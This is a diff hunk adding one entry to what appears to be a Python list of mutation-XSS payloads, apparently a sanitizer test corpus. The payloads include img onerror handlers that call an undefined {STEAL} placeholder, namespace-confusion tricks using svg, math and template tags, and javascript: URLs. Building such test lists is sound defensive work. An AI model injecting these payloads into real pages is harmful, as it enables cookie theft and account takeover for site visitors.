@@ -59,6 +59,7 @@ OWN = (
     f'<svg></p><style><a id="</style><img src=1 onerror={STEAL}>"></svg>',
     f'<math><annotation-xml encoding="text/html"><xmp>&lt;/xmp&gt;&lt;img src=x onerror={STEAL}&gt;</xmp></math>',
     f"<select><template><style><!--</style><img src=x onerror={STEAL}>--></template></select>",
+    f'<abbr title="<pre><img src=x onerror={STEAL}>">x</abbr>',
     f'<abbr title="&lt;/abbr&gt;&lt;img src=x onerror={STEAL}&gt;">x</abbr><a title="`-alert(1)-`">x</a>',
     '<isindex action=javascript:alert(1)><frameset onload=alert(1)>',
     "<svg><use href=\"data:image/svg+xml,<svg id='x' xmlns='http://www.w3.org/2000/svg'><image href='1' onerror='alert(1)'/></svg>#x\"/></svg>",
